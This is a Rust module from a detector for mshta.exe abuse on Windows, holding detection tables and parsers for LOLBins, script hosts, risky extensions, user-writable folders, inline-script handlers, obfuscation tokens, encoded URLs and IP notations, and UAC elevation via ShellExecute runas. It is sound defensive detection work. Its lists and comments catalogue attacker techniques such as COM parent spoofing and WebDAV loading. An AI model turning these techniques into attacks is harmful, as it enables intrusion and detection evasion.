//! Detection knowledge: every table of names, extensions, folders, ports,
//! networks and command-line tokens the detector knows, each once, with the
//! small lookups that read them. Scoring (`score`), the triage checklist
//! (`triage`) and the output formats all ask here, so a binary that scores
//! as a LOLBin is also the one whose command line triage asks to review.
//!
//! Sources are public detection content: SigmaHQ rules (cited by rule id),
//! Elastic detection rules, Splunk security content, the LOLBAS project
//! (`lolbas-project.github.io`), Atomic Red Team and MITRE ATT&CK
//! (T1218.005, analytic AN1397). Which entries are listed is ours.
//!
//! Names and paths may come in any case and, for names, as a full image
//! path; command-line matchers take the lower-cased command line (scoring
//! lower-cases it once).

use crate::names::{basename, lower};
use std::borrow::Cow;

// ---------------------------------------------------------------------------
// Binaries.

/// mshta's own image name.
pub(crate) const MSHTA: &str = "mshta.exe";

/// PowerShell hosts. Triage asks for their script block log (event 4104) as
/// well as their command line. Source: Sigma 03cc0c25 (pwsh), LOLBAS.
pub(crate) const POWERSHELL: &[&str] = &["powershell.exe", "pwsh.exe", "powershell_ise.exe"];

/// The Windows command shell and script hosts (besides PowerShell): what HTA
/// payloads hand over to, and what launches mshta from a script. Source:
/// Sigma 03cc0c25 (suspicious mshta child), e32f92d1.
pub(crate) const SCRIPT_HOSTS: &[&str] = &["cmd.exe", "wscript.exe", "cscript.exe"];

/// POSIX shells on Windows (WSL, Git, MSYS). Source: Sigma 03cc0c25
/// (`sh.exe`, `bash.exe`), LOLBAS Wsl.yml.
pub(crate) const POSIX_SHELLS: &[&str] = &["bash.exe", "sh.exe", "wsl.exe"];

/// Living-off-the-land binaries: signed Microsoft binaries that download,
/// execute, compile, proxy execution or persist, as the LOLBAS project lists
/// them (one `<Name>.yml` each) and public rules flag as children of mshta
/// (Sigma 03cc0c25, Elastic 48e60a73, Splunk 60023bb6).
pub(crate) const LOLBINS: &[&str] = &[
    // Execution proxies.
    "mshta.exe",
    "rundll32.exe",
    "regsvr32.exe",
    "hh.exe",
    "msiexec.exe",
    "odbcconf.exe",
    "pcalua.exe",
    "forfiles.exe",
    "cmstp.exe",
    "msdt.exe",
    "wmic.exe",
    "msxsl.exe",
    // .NET: build, compile and register assemblies.
    "msbuild.exe",
    "csc.exe",
    "vbc.exe",
    "installutil.exe",
    "regasm.exe",
    "regsvcs.exe",
    // Download and copy.
    "certutil.exe",
    "bitsadmin.exe",
    "curl.exe",
    "certreq.exe",
    "finger.exe",
    "ftp.exe",
    "esentutl.exe",
    "expand.exe",
    "extrac32.exe",
    "tar.exe",
    // Not part of Windows, but ports of wget (GnuWin32, Git, MSYS) are the
    // same download primitive as curl.
    "wget.exe",
    // Persistence and configuration.
    "schtasks.exe",
    "at.exe",
    "reg.exe",
    "regedit.exe",
    "sc.exe",
];

/// Discovery commands: what hands-on-keyboard operators run first. Not
/// LOLBins in the LOLBAS sense, but from an HTA they are follow-on activity
/// worth reading (Sigma: whoami / net / nltest recon rules; `nslookup` also
/// fetches ClickFix payloads through DNS TXT records).
pub(crate) const DISCOVERY: &[&str] = &["net.exe", "net1.exe", "whoami.exe", "nltest.exe", "nslookup.exe"];

/// Office and document applications. mshta under one of them is a macro or an
/// exploit (Sigma 438025f9 and the Office child-process rule's parents,
/// Elastic a624863f, 32f4675e, Splunk 6078fa20).
pub(crate) const OFFICE: &[&str] = &[
    "winword.exe",
    "excel.exe",
    "powerpnt.exe",
    "outlook.exe",
    "onenote.exe",
    "onenotem.exe",
    "eqnedt32.exe",
    "mspub.exe",
    "visio.exe",
    "msaccess.exe",
    "wordpad.exe",
];

/// Web browsers: mshta under one means a downloaded HTA was opened (Elastic
/// 7dc45430; Palo Alto Cortex "mshta spawned from a browser").
pub(crate) const BROWSERS: &[&str] =
    &["chrome.exe", "msedge.exe", "firefox.exe", "iexplore.exe", "brave.exe", "opera.exe"];

/// WMI hosts that create processes for remote callers and event
/// subscriptions (Sigma 8a582fe2; Splunk 4d33a488, 95a455f0).
pub(crate) const WMI_HOSTS: &[&str] = &["wmiprvse.exe", "scrcons.exe"];

/// The service host that activates DCOM servers, and the service group it
/// runs for that (`svchost.exe -k DcomLaunch`): LethalHTA starts mshta
/// through it (Elastic 622ecb68; Sigma ed5d72a6).
pub(crate) const DCOM_HOST: &str = "svchost.exe";
/// See [`DCOM_HOST`].
pub(crate) const DCOM_LAUNCH_GROUP: &str = "dcomlaunch";

/// Execution proxies that also launch mshta from scripts (with the shells and
/// script hosts, the "script host" parents). Source: Sigma e32f92d1, 3a6586ad.
pub(crate) const PROXY_LAUNCHERS: &[&str] = &["regsvr32.exe", "rundll32.exe", "hh.exe"];

/// rundll32 entry points that run HTML applications without naming mshta
/// (mshtml `RunHTMLApplication`, url.dll `FileProtocolHandler`). Source:
/// TRR0016, AtomicTestHarnesses.
pub(crate) const RUNDLL32_HTML_HANDLERS: &[&str] = &["runhtmlapplication", "fileprotocolhandler"];

/// The desktop shell: the parent of a double-click.
pub(crate) const EXPLORER: &str = "explorer.exe";

/// The console host every console process starts: not worth a triage line.
pub(crate) const CONSOLE_HOST: &str = "conhost.exe";

/// The .NET runtime's modules: loaded into mshta, they mean a
/// DotNetToJScript-style payload (Sigma 4508a70e, e0b06658; LOLBAS Mshta.yml).
pub(crate) const CLR_MODULES: &[&str] = &["clr.dll", "clrjit.dll", "mscoree.dll", "mscoreei.dll", "mscorlib.ni.dll"];

/// The lower-cased file name of an image path or name.
pub(crate) fn image_key(image: &str) -> Cow<'_, str> {
    lower(basename(image))
}

fn listed(table: &[&str], image: &str) -> bool {
    table.contains(&image_key(image).as_ref())
}

/// A PowerShell host.
pub(crate) fn is_powershell(image: &str) -> bool {
    listed(POWERSHELL, image)
}

/// A shell, script host, LOLBin or discovery command: a descendant that
/// scores `child_shell_or_lolbin` and whose command line triage asks to
/// review.
pub(crate) fn is_shell_or_lolbin(image: &str) -> bool {
    let k = image_key(image);
    [POWERSHELL, SCRIPT_HOSTS, POSIX_SHELLS, LOLBINS, DISCOVERY].iter().any(|t| t.contains(&k.as_ref()))
}

/// A shell or script host that launches mshta from a script: PowerShell,
/// cmd, wscript, cscript and the execution proxies regsvr32, rundll32, hh
/// (the `parent_script_host` reason).
pub(crate) fn is_launcher_script_host(image: &str) -> bool {
    let k = image_key(image);
    [POWERSHELL, SCRIPT_HOSTS, PROXY_LAUNCHERS].iter().any(|t| t.contains(&k.as_ref()))
}

/// An Office or document application.
pub(crate) fn is_office(image: &str) -> bool {
    listed(OFFICE, image)
}

/// A web browser.
pub(crate) fn is_browser(image: &str) -> bool {
    listed(BROWSERS, image)
}

/// A WMI host.
pub(crate) fn is_wmi_host(image: &str) -> bool {
    listed(WMI_HOSTS, image)
}

/// The service host, whatever its group.
pub(crate) fn is_service_host(image: &str) -> bool {
    image_key(image) == DCOM_HOST
}

/// The DCOM launcher: svchost running the DcomLaunch group. `embedding`:
/// the child was started with `-Embedding`, so any svchost parent is the
/// DCOM activation even when its command line is not known.
pub(crate) fn is_dcom_launcher(image: &str, command_line: &str, embedding: bool) -> bool {
    is_service_host(image) && (lower(command_line).contains(DCOM_LAUNCH_GROUP) || embedding)
}

/// rundll32 running an HTML application through one of its handlers.
pub(crate) fn is_rundll32_html_handler(image: &str, command_line: &str) -> bool {
    let cmd = lower(command_line);
    image_key(image) == "rundll32.exe" && RUNDLL32_HTML_HANDLERS.iter().any(|h| cmd.contains(h))
}

/// Explorer.
pub(crate) fn is_explorer(image: &str) -> bool {
    image_key(image) == EXPLORER
}

/// The console host.
pub(crate) fn is_console_host(image: &str) -> bool {
    image_key(image) == CONSOLE_HOST
}

/// A .NET runtime module.
pub(crate) fn is_clr_module(path: &str) -> bool {
    listed(CLR_MODULES, path)
}

// ---------------------------------------------------------------------------
// Files.

/// Executable code: programs, libraries, drivers, installers, Control Panel
/// items and compiled help. Source: Sigma f0540f7e, 7d604714 (suspicious
/// files written), LOLBAS Hh.yml (chm).
pub(crate) const EXECUTABLE_EXTENSIONS: &[&str] =
    &["exe", "dll", "com", "scr", "pif", "cpl", "ocx", "sys", "msi", "msp", "jar", "chm"];

/// Scripts: PowerShell, batch, Windows Script Host, HTAs and scriptlets,
/// and shortcuts (which run a command line). Source: Sigma 654fcc6d,
/// f0540f7e.
pub(crate) const SCRIPT_EXTENSIONS: &[&str] =
    &["ps1", "psm1", "psd1", "bat", "cmd", "vbs", "vbe", "js", "jse", "wsf", "wsh", "hta", "sct", "lnk"];

/// Archives and disk images: how payloads travel (and skip Mark-of-the-Web).
/// Source: Sigma 7d604714; Elastic "Suspicious ISO/IMG/VHD mount" rules.
pub(crate) const ARCHIVE_EXTENSIONS: &[&str] = &["zip", "rar", "7z", "cab", "iso", "img", "vhd", "vhdx"];

/// Extensions mshta is meant to run: HTML applications and pages. A target
/// with another extension (outside `.exe`, mshta's own) is a polyglot
/// (Sigma cc7abbd0; TRR0016).
pub(crate) const HTA_EXTENSIONS: &[&str] = &["hta", "htm", "html", "mht", "mhtml"];

/// File-name prefixes of files Windows components write routinely:
/// PowerShell writes and deletes an execution-policy probe script
/// (`__PSScriptPolicyTest_*.ps1`) at every start.
pub(crate) const ROUTINE_FILE_PREFIXES: &[&str] = &["__psscriptpolicytest_"];

/// The lower-cased extension of a path's file name, without the dot.
pub(crate) fn extension(path: &str) -> Option<String> {
    let name = image_key(path);
    let (_, ext) = name.rsplit_once('.')?;
    (!ext.is_empty()).then(|| ext.to_string())
}

/// A file Windows writes routinely (not worth scoring or collecting).
pub(crate) fn is_routine_file(path: &str) -> bool {
    let name = image_key(path);
    ROUTINE_FILE_PREFIXES.iter().any(|p| name.starts_with(p))
}

/// An executable, script or archive, other than a routine file: a written
/// file worth scoring (`file_dropped_executable`) and collecting.
pub(crate) fn is_risky_file(path: &str) -> bool {
    let risky = extension(path).is_some_and(|e| {
        [EXECUTABLE_EXTENSIONS, SCRIPT_EXTENSIONS, ARCHIVE_EXTENSIONS].iter().any(|t| t.contains(&e.as_str()))
    });
    risky && !is_routine_file(path)
}

/// Whether a (lower-cased) command line names an `.hta` file.
pub(crate) fn mentions_hta(cmd: &str) -> bool {
    cmd.contains(".hta")
}

/// Whether a file mshta runs has an HTML-application extension (or none).
pub(crate) fn is_hta_like(path: &str) -> bool {
    extension(path).is_none_or(|e| HTA_EXTENSIONS.contains(&e.as_str()) || e == "exe")
}

// ---------------------------------------------------------------------------
// Paths.

/// The per-user and all-users Startup folders (both end in this): files
/// written there run at every logon (Elastic 440e2db4; protections a85000c8).
pub(crate) const STARTUP_DIR: &str = "\\start menu\\programs\\startup\\";

/// User-writable folders a command line may name, with the name shown, most
/// specific first (the first match is shown). Source: Sigma e32f92d1,
/// cea72823, 1228c958; Elastic 181f6b23.
pub(crate) const USER_WRITABLE_DIRS: &[(&str, &str)] = &[
    (STARTUP_DIR, "Startup"),
    ("\\downloads\\", "Downloads"),
    ("\\appdata\\local\\temp\\", "Temp"),
    ("\\windows\\temp\\", "Windows\\Temp"),
    ("%temp%", "Temp"),
    ("\\users\\public\\", "Public"),
    ("\\programdata\\", "ProgramData"),
    ("\\appdata\\", "AppData"),
    ("\\perflogs\\", "PerfLogs"),
];

/// Trees any user can write to: a process image under one runs from a
/// user-writable place (Elastic 48e60a73; protections 83da4fac).
pub(crate) const USER_WRITABLE_ROOTS: &[&str] = &["\\users\\", "\\windows\\temp\\", "\\programdata\\", "\\perflogs\\"];

/// Temporary folders archive tools extract into, with the tool: an HTA run
/// from one was opened straight out of an archive (Sigma d4ca7c59; Elastic
/// 181f6b23).
pub(crate) const ARCHIVE_TEMP_DIRS: &[(&str, &str)] = &[
    ("\\temp\\7z", "7-Zip"),
    ("\\temp\\rar$", "WinRAR"),
    ("\\temp\\temp1_", "Windows zip"),
    ("\\temp\\temp2_", "Windows zip"),
    (".zip\\", "zip"),
    ("\\temp\\bnz.", "archive"),
];

/// Where mshta lives; a copy elsewhere is evasion (Sigma e32f92d1; LOLBAS
/// Mshta.yml Full_Path).
pub(crate) const SYSTEM_DIRS: &[&str] = &["\\windows\\system32\\", "\\windows\\syswow64\\"];

/// A path in a Startup folder.
pub(crate) fn is_startup_path(path: &str) -> bool {
    lower(path).contains(STARTUP_DIR)
}

/// The first user-writable folder a (lower-cased) command line names.
pub(crate) fn user_writable_dir(cmd: &str) -> Option<&'static str> {
    user_writable_dir_entry(cmd).map(|(_, name)| name)
}

/// The same, with the text matched.
pub(crate) fn user_writable_dir_entry(cmd: &str) -> Option<(&'static str, &'static str)> {
    USER_WRITABLE_DIRS.iter().find(|(needle, _)| cmd.contains(needle)).copied()
}

/// A path under a user-writable tree.
pub(crate) fn in_user_writable_tree(path: &str) -> bool {
    let l = lower(path);
    USER_WRITABLE_ROOTS.iter().any(|r| l.contains(r))
}

/// The archive tool whose temporary folder a (lower-cased) command line
/// names, with the text matched.
pub(crate) fn archive_temp_dir_entry(cmd: &str) -> Option<(&'static str, &'static str)> {
    ARCHIVE_TEMP_DIRS.iter().find(|(needle, _)| cmd.contains(needle)).copied()
}

/// A full path outside System32 and SysWOW64 (a bare name says nothing).
pub(crate) fn outside_system_dirs(image: &str) -> bool {
    let l = lower(image);
    l.contains('\\') && !SYSTEM_DIRS.iter().any(|d| l.contains(d))
}

// ---------------------------------------------------------------------------
// Command-line indicators (all matched on the lower-cased command line).

/// Protocol handlers that make mshta run inline script with no file
/// (Sigma 67f113fa, cc7abbd0; Splunk a0873b32; TRR0016; Atomic T1218.005).
pub(crate) const INLINE_HANDLERS: &[&str] = &["javascript:", "vbscript:", "about:"];

/// Script objects and methods through which inline script reaches the system
/// (shells, downloads, the registry), with the name shown. Source: Elastic
/// 181f6b23; Sigma 2c28c248; LOLBAS Mshta.yml.
pub(crate) const SCRIPT_OBJECT_TOKENS: &[(&str, &str)] = &[
    ("getobject", "GetObject"),
    ("activexobject", "ActiveXObject"),
    ("wscript.shell", "WScript.Shell"),
    ("createobject", "CreateObject"),
    (".run", ".Run"),
    (".exec", ".Exec"),
    ("eval(", "eval()"),
    ("execute(", "Execute()"),
    ("shell.application", "Shell.Application"),
    ("regread", "RegRead"),
    ("regwrite", "RegWrite"),
];

/// The scriptlet moniker (`GetObject("script:https://…")`), matched only
/// where it is not the tail of `vbscript:` or `javascript:`.
pub(crate) const SCRIPT_MONIKER: &str = "script:";

/// Obfuscation tokens, with the technique shown (one name may have several
/// tokens). Source: Sigma ac20ae82; Elastic 37148ae6; Invoke-Obfuscation.
pub(crate) const OBFUSCATION_TOKENS: &[(&str, &str)] = &[
    ("%2", "percent-encoding"),
    ("%3c", "percent-encoding"),
    ("chr(", "Chr()"),
    ("strreverse", "StrReverse"),
    ("fromcharcode", "fromCharCode"),
    ("^", "caret escapes"),
];

/// Markers of WebDAV paths (`\\host@SSL\DavWWWRoot\...`): remote content
/// without a URL scheme (LOLBAS Mshta.yml; Atomic T1218.005 test 4).
pub(crate) const WEBDAV_MARKERS: &[&str] = &["@ssl", "davwwwroot"];

/// How COM starts a server process (`mshta.exe -Embedding`): LethalHTA
/// lateral movement (Elastic 622ecb68; Sigma ed5d72a6; Splunk 4d33a488).
pub(crate) const EMBEDDING_FLAGS: &[&str] = &["-embedding", "/embedding"];

/// The inline-script handler a command line uses.
pub(crate) fn inline_handler(cmd: &str) -> Option<&'static str> {
    INLINE_HANDLERS.iter().find(|h| cmd.contains(*h)).copied()
}

/// `script:` used as a moniker, not as the tail of a protocol handler.
pub(crate) fn has_script_moniker(cmd: &str) -> bool {
    !script_moniker_spans(cmd).is_empty()
}

/// Where `script:` is used as a moniker (byte offsets, the first few).
pub(crate) fn script_moniker_spans(cmd: &str) -> Vec<(usize, usize)> {
    cmd.match_indices(SCRIPT_MONIKER)
        .filter(|(i, _)| !cmd[..*i].chars().next_back().is_some_and(|c| c.is_ascii_alphabetic()))
        .take(16)
        .map(|(i, m)| (i, i + m.len()))
        .collect()
}

/// The script objects a command line names, in table order, then the
/// moniker.
pub(crate) fn script_objects(cmd: &str) -> Vec<&'static str> {
    let mut found: Vec<&str> =
        SCRIPT_OBJECT_TOKENS.iter().filter(|(tok, _)| cmd.contains(tok)).map(|&(_, name)| name).collect();
    if has_script_moniker(cmd) {
        found.push("script: moniker");
    }
    found
}

/// The obfuscation techniques a command line shows, each once.
pub(crate) fn obfuscation(cmd: &str) -> Vec<&'static str> {
    let mut found: Vec<&str> =
        OBFUSCATION_TOKENS.iter().filter(|(tok, _)| cmd.contains(tok)).map(|&(_, name)| name).collect();
    found.dedup();
    found
}

/// Started as a COM server.
pub(crate) fn has_embedding_flag(cmd: &str) -> bool {
    EMBEDDING_FLAGS.iter().any(|f| cmd.contains(f))
}

/// Schemes of remote content, with the family shown. A scheme counts in any
/// spelling mshta accepts: `http://`, `http:\\`, percent-encoded
/// (`http%3a//`, `%68ttp://`). `file:` counts when it names a host
/// (`file://host/share/a.hta`), not for `file:///C:/...`.
pub(crate) const REMOTE_SCHEMES: &[(&str, &str)] =
    &[("https", "http"), ("http", "http"), ("ftps", "ftp"), ("ftp", "ftp"), ("file", "UNC path")];

/// Host names that mean this machine in a `file:` URL.
pub(crate) const LOCAL_HOSTS: &[&str] = &["localhost", "127.0.0.1", "."];

/// The suffix of an IPv6 address spelled as a UNC host
/// (`fe80--1.ipv6-literal.net`).
pub(crate) const IPV6_LITERAL_SUFFIX: &str = ".ipv6-literal.net";

/// Remote content a command line names.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Remote {
    /// `http`, `ftp`, `WebDAV` or `UNC path`.
    pub family: &'static str,
    /// The host, lower-cased, without user info, port or brackets (may be
    /// empty when the spelling has none, as for some WebDAV markers).
    pub host: String,
    /// Byte offsets of the target's text in the command line.
    pub span: (usize, usize),
}

/// A command line's text with `%XX` escapes decoded, and for each decoded
/// byte the byte offset it came from (so a match maps back to the raw text).
pub(crate) struct Decoded {
    /// The decoded text (lower-cased when the input was).
    pub text: String,
    at: Vec<usize>,
}

impl Decoded {
    /// Decodes `%XX` escapes of ASCII characters; anything else is kept.
    pub(crate) fn of(cmd: &str) -> Decoded {
        let b = cmd.as_bytes();
        let mut text = Vec::with_capacity(b.len());
        let mut at = Vec::with_capacity(b.len() + 1);
        let mut i = 0;
        while i < b.len() {
            let hex = |c: u8| (c as char).to_digit(16);
            if b[i] == b'%' && i + 2 < b.len() {
                if let (Some(h), Some(l)) = (hex(b[i + 1]), hex(b[i + 2])) {
                    let v = (h * 16 + l) as u8;
                    if v.is_ascii() && v != 0 {
                        text.push(v.to_ascii_lowercase());
                        at.push(i);
                        i += 3;
                        continue;
                    }
                }
            }
            text.push(b[i]);
            at.push(i);
            i += 1;
        }
        at.push(b.len());
        // Only ASCII bytes were replaced by ASCII bytes: still UTF-8.
        let text = String::from_utf8(text).unwrap_or_else(|e| String::from_utf8_lossy(e.as_bytes()).into_owned());
        Decoded { text, at }
    }

    /// The raw byte range of a decoded range.
    pub(crate) fn raw(&self, (start, end): (usize, usize)) -> (usize, usize) {
        let get = |i: usize| self.at.get(i).copied().unwrap_or_else(|| self.at.last().copied().unwrap_or(0));
        (get(start), get(end))
    }
}

/// Characters that end a remote target or its host.
fn ends_target(c: char) -> bool {
    c.is_whitespace() || matches!(c, '"' | '\'' | '(' | ')' | '<' | '>' | ';' | ',')
}

/// The remote content a (lower-cased) command line loads, first in the text,
/// in any spelling: a URL (`http://`, `http:\\`, `file://host/`), a UNC path
/// (`\\host\share`, `//host/share`), WebDAV; percent-encoded schemes too.
pub(crate) fn remote(cmd: &str) -> Option<Remote> {
    if let Some(r) = remote_in(cmd) {
        return Some(r);
    }
    if !cmd.contains('%') {
        return None;
    }
    let d = Decoded::of(cmd);
    remote_in(&d.text).map(|r| Remote { span: d.raw(r.span), ..r })
}

fn remote_in(cmd: &str) -> Option<Remote> {
    let b = cmd.as_bytes();
    let mut i = 0;
    while i < b.len() {
        let prev = if i == 0 { None } else { Some(b[i - 1]) };
        let word_start = prev.is_none_or(|c| !(c.is_ascii_alphanumeric() || c == b'_'));
        // `scheme:` then two slashes of either kind.
        if word_start && b[i].is_ascii_alphabetic() {
            for &(scheme, family) in REMOTE_SCHEMES {
                let Some(rest) = cmd[i..].strip_prefix(scheme).and_then(|r| r.strip_prefix(':')) else { continue };
                let rb = rest.as_bytes();
                if rb.len() < 2 || !matches!(rb[0], b'/' | b'\\') || !matches!(rb[1], b'/' | b'\\') {
                    continue;
                }
                let body_at = i + scheme.len() + 1;
                let host_at = body_at + rest.bytes().take_while(|c| matches!(c, b'/' | b'\\')).count();
                let end = cmd[host_at..].find(ends_target).map_or(cmd.len(), |e| host_at + e);
                let host = host_of(&cmd[host_at..end], true);
                if scheme == "file" {
                    // `file:///c:/...` and `file://localhost/...` are local.
                    let slashes = host_at - body_at;
                    let local = host.is_empty()
                        || LOCAL_HOSTS.contains(&host.as_str())
                        || (host.len() == 1 && cmd.as_bytes().get(host_at + 1) == Some(&b':'))
                        || slashes == 3;
                    if local {
                        continue;
                    }
                }
                return Some(Remote { family, host, span: (i, end) });
            }
        }
        // `\\host\` or `//host/` (not `\\?\`, `\\.\`, nor a URL's `://`).
        let pair = (b[i] == b'\\' && b.get(i + 1) == Some(&b'\\')) || (b[i] == b'/' && b.get(i + 1) == Some(&b'/'));
        if pair && prev.is_none_or(|c| c != b':' && c != b'\\' && c != b'/') {
            let host_at = i + 2;
            let next = b.get(host_at).copied();
            let device = matches!(next, Some(b'?' | b'.' | b'\\' | b'/') | None);
            let slash_form = b[i] == b'/';
            // `//` inside script (a JS comment) is not a path: it must start
            // a token and name a host followed by a separator.
            let starts_token = prev.is_none_or(|c| c.is_ascii_whitespace() || matches!(c, b'"' | b'\'' | b'(' | b'='));
            if !device && (!slash_form || starts_token) {
                let end = cmd[host_at..].find(ends_target).map_or(cmd.len(), |e| host_at + e);
                let target = &cmd[host_at..end];
                let host_len = target.find(['\\', '/']).unwrap_or(target.len());
                if host_len > 0 && host_len < target.len() {
                    let raw_host = &target[..host_len];
                    let family = if WEBDAV_MARKERS.iter().any(|m| target.contains(m)) { "WebDAV" } else { "UNC path" };
                    return Some(Remote { family, host: host_of(raw_host, false), span: (i, end) });
                }
            }
        }
        i += 1;
    }
    WEBDAV_MARKERS.iter().find_map(|m| cmd.find(m)).map(|at| Remote {
        family: "WebDAV",
        host: String::new(),
        span: (at, cmd[at..].find(ends_target).map_or(cmd.len(), |e| at + e)),
    })
}

/// The host part of an authority (`user@host:port`, `[v6]:port`) or of a
/// UNC host (`host@SSL@8080`).
fn host_of(authority: &str, url: bool) -> String {
    let end = authority.find(['/', '\\', '?', '#']).unwrap_or(authority.len());
    let mut a = &authority[..end];
    if url {
        a = a.rsplit('@').next().unwrap_or(a);
        if let Some(inner) = a.strip_prefix('[') {
            return inner.split(']').next().unwrap_or("").to_string();
        }
        a = a.split(':').next().unwrap_or(a);
    } else {
        a = a.split('@').next().unwrap_or(a);
    }
    a.trim_end_matches('.').to_string()
}

/// A host written as an IP address, in any notation Windows accepts: dotted,
/// short (`127.1`), hexadecimal (`0x7f000001`, `0x7f.1`), decimal
/// (`2130706433`), octal (`0177.0.0.1`), IPv6 (`::1`, IPv4-mapped
/// `::ffff:7f00:1`, with a zone), and the UNC IPv6 spelling
/// (`fe80--1.ipv6-literal.net`).
pub(crate) fn host_ip(host: &str) -> Option<std::net::IpAddr> {
    let h = host.trim().trim_start_matches('[').trim_end_matches(']');
    let h = lower(h);
    if let Some(v6) = h.strip_suffix(IPV6_LITERAL_SUFFIX) {
        let v6 = v6.split('s').next().unwrap_or(v6).replace('-', ":");
        return v6.parse::<std::net::Ipv6Addr>().ok().map(std::net::IpAddr::V6);
    }
    if h.contains(':') {
        let v6 = h.split('%').next().unwrap_or(&h);
        return v6.parse::<std::net::Ipv6Addr>().ok().map(std::net::IpAddr::V6);
    }
    inet_aton(h.trim_end_matches('.')).map(|v| std::net::IpAddr::V4(std::net::Ipv4Addr::from(v)))
}

/// IPv4 as `inet_aton` reads it: one to four parts, each decimal, `0x` hex
/// or `0` octal, the last filling the remaining bytes.
fn inet_aton(s: &str) -> Option<u32> {
    let parts: Vec<&str> = s.split('.').collect();
    if parts.is_empty() || parts.len() > 4 {
        return None;
    }
    let mut values = Vec::with_capacity(4);
    for p in &parts {
        let v = if let Some(hex) = p.strip_prefix("0x") {
            if hex.is_empty() || hex.len() > 8 {
                return None;
            }
            u32::from_str_radix(hex, 16).ok()?
        } else if p.len() > 1 && p.starts_with('0') {
            u32::from_str_radix(&p[1..], 8).ok()?
        } else {
            if p.is_empty() || p.len() > 10 || !p.bytes().all(|c| c.is_ascii_digit()) {
                return None;
            }
            p.parse::<u64>().ok().filter(|&v| v <= u64::from(u32::MAX))? as u32
        };
        values.push(v);
    }
    let (last, head) = values.split_last()?;
    let mut out: u32 = 0;
    for (i, &v) in head.iter().enumerate() {
        if v > 255 {
            return None;
        }
        out |= v << (24 - 8 * i);
    }
    let rest_bits = 32 - 8 * head.len() as u32;
    if rest_bits < 32 && u64::from(*last) >= 1u64 << rest_bits {
        return None;
    }
    Some(out | last)
}

/// Whether a path-looking token is really a URL (`http:\\host\a.hta`,
/// `ftp:/x`): a scheme of two or more letters, a colon, then a slash.
pub(crate) fn is_url_like(token: &str) -> bool {
    let Some((scheme, rest)) = token.split_once(':') else { return false };
    scheme.len() >= 2
        && scheme.bytes().all(|c| c.is_ascii_alphanumeric() || matches!(c, b'+' | b'-' | b'.'))
        && rest.starts_with(['/', '\\'])
}

// ---------------------------------------------------------------------------
// The file mshta runs.

/// The argument mshta runs (its first), with its byte offsets in the
/// command line: the program token (quoted or not) is skipped.
pub(crate) fn first_argument(cmd: &str) -> Option<(&str, usize)> {
    let t = cmd.trim_start();
    let lead = cmd.len() - t.len();
    let after_program = if let Some(q) = t.strip_prefix('"') {
        q.find('"').map_or(t.len(), |e| e + 2)
    } else {
        t.find(char::is_whitespace).unwrap_or(t.len())
    };
    let rest = &t[after_program..];
    let arg = rest.trim_start();
    let at = lead + after_program + (rest.len() - arg.len());
    let (text, start) = if let Some(q) = arg.strip_prefix('"') {
        (&q[..q.find('"').unwrap_or(q.len())], at + 1)
    } else {
        (&arg[..arg.find(char::is_whitespace).unwrap_or(arg.len())], at)
    };
    (!text.is_empty()).then_some((text, start))
}

/// A Windows path as the file system resolves it, lower-cased: `/` as `\`,
/// `\\?\` dropped, `.` and `..` segments resolved (never above the root),
/// repeated separators and trailing dots and spaces of a segment removed.
pub(crate) fn resolve_path(path: &str) -> String {
    let p = lower(path.trim()).replace('/', "\\");
    let p = p.strip_prefix("\\\\?\\").unwrap_or(&p).to_string();
    let unc = p.starts_with("\\\\");
    let mut segs: Vec<&str> = Vec::new();
    let mut root = 0;
    for (i, seg) in p.split('\\').enumerate() {
        let seg = if seg == "." || seg == ".." { seg } else { seg.trim_end_matches(['.', ' ']) };
        match seg {
            "" | "." => {}
            ".." => {
                if segs.len() > root {
                    segs.pop();
                }
            }
            s => {
                segs.push(s);
                if i == 0 && s.ends_with(':') {
                    root = 1;
                }
                if unc && segs.len() <= 2 {
                    root = segs.len();
                }
            }
        }
    }
    let joined = segs.join("\\");
    if unc {
        format!("\\\\{joined}")
    } else {
        joined
    }
}

// ---------------------------------------------------------------------------
// Launch patterns.

/// Where Internet Explorer and the WebBrowser control cache what they
/// download; an HTA run from here was fetched by the browser (a drive-by or
/// a download opened in place). Outlook's attachment cache
/// (`Content.Outlook`) is not a browser's.
pub(crate) const BROWSER_CACHE_DIRS: &[&str] = &["\\temporary internet files\\", "\\inetcache\\", "\\content.ie5\\"];
/// See [`BROWSER_CACHE_DIRS`].
pub(crate) const NOT_BROWSER_CACHE: &str = "\\content.outlook\\";

/// A path inside a browser cache.
pub(crate) fn in_browser_cache(path: &str) -> bool {
    let l = lower(path);
    BROWSER_CACHE_DIRS.iter().any(|d| l.contains(d)) && !l.contains(NOT_BROWSER_CACHE)
}

/// Explorer started as a COM server (`/factory,{CLSID} -Embedding`): a
/// script used the shell's COM objects (ShellWindows, ShellBrowserWindow)
/// so that what it runs shows Explorer as its parent. Source: MDSec and
/// SpecterOps on COM parent spoofing; Elastic 2c6bd0ff.
pub(crate) const EXPLORER_COM_FLAGS: &[&str] = &["/factory,", "-embedding"];

/// Explorer started as a COM server.
pub(crate) fn is_explorer_com_server(image: &str, command_line: &str) -> bool {
    let l = lower(command_line);
    is_explorer(image) && EXPLORER_COM_FLAGS.iter().any(|f| l.contains(f))
}

/// Elevation through the shell: `Shell.Application.ShellExecute(file, args,
/// dir, "runas", show)` starts `file` as administrator after a UAC prompt.
/// Source: Sigma 8f05b8ce (UAC elevation via ShellExecute runas); LOLBAS.
pub(crate) const SHELL_EXECUTE: &str = "shellexecute";
/// See [`SHELL_EXECUTE`].
pub(crate) const RUNAS_VERB: &str = "runas";

/// The elevated target of a `ShellExecute ... "runas"` in a command line
/// (the file and its arguments, as the script wrote them), with the byte
/// offsets of the call.
pub(crate) fn shell_execute_runas(cmd: &str) -> Option<(String, (usize, usize))> {
    let l = lower(cmd);
    let at = l.find(SHELL_EXECUTE)?;
    let mut rest = &cmd[at + SHELL_EXECUTE.len()..];
    rest = rest.trim_start().trim_start_matches('(').trim_start();
    let mut args: Vec<String> = Vec::new();
    let mut used = 0;
    while args.len() < 4 {
        let (value, len) = string_literal(rest)?;
        args.push(value);
        let after = &rest[len..];
        let trimmed = after.trim_start();
        used += rest.len() - trimmed.len();
        let Some(next) = trimmed.strip_prefix(',') else { break };
        let next_trim = next.trim_start();
        used += trimmed.len() - next_trim.len();
        rest = next_trim;
    }
    let verb = args.get(3)?;
    if !verb.eq_ignore_ascii_case(RUNAS_VERB) {
        return None;
    }
    let target = match args.get(1).map(|a| a.trim()).filter(|a| !a.is_empty()) {
        Some(params) => format!("{} {params}", args[0]),
        None => args[0].clone(),
    };
    Some((target, (at, at + SHELL_EXECUTE.len() + used)))
}

